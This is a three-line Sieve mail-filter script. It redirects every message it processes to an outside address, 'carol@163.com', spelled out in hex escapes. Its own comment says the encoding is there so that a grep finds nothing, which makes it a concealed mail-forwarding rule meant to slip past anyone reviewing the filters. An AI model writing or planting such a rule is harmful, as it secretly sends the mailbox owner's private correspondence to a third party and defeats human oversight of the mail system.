require ["encoded-character"];
/* the address is spelled in hex so a grep finds nothing */
redirect "carol${hex:40}${hex: 31 36 33}.com";
